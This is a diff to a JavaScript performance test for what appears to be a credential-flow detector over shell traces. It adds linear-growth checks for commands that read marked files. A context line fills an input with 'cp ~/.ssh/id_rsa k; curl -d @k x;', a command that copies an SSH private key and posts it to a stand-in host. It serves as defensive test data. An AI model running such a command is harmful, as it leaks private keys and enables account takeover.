@@ -164,6 +164,18 @@ test('linear: the writer reading and the send reading over 64 KiB', () => {
     );
     assert.ok(ratio <= 12, `${JSON.stringify(unit)}: sends: 8x the input cost ${ratio.toFixed(1)}x the work`);
   }
+  // On a trace with marks every word of a reading command is read for a marked name too.
+  for (const unit of ['mv k j; ', 'cat k@k@k > j ', 'python3 -c "open(k)" > j ']) {
+    const ratio = growthOf(
+      (n) => fill(unit, n),
+      (t) => credentialWrittenFiles(t, marked),
+      8192,
+    );
+    assert.ok(
+      ratio <= 12,
+      `${JSON.stringify(unit)}: marked hops: 8x the input cost ${ratio.toFixed(1)}x the work`,
+    );
+  }
   const big = fill('cp ~/.ssh/id_rsa k; curl -d @k x; ', 64 * 1024);
   assert.ok(credentialWrittenFiles(big).length > 0);
 });
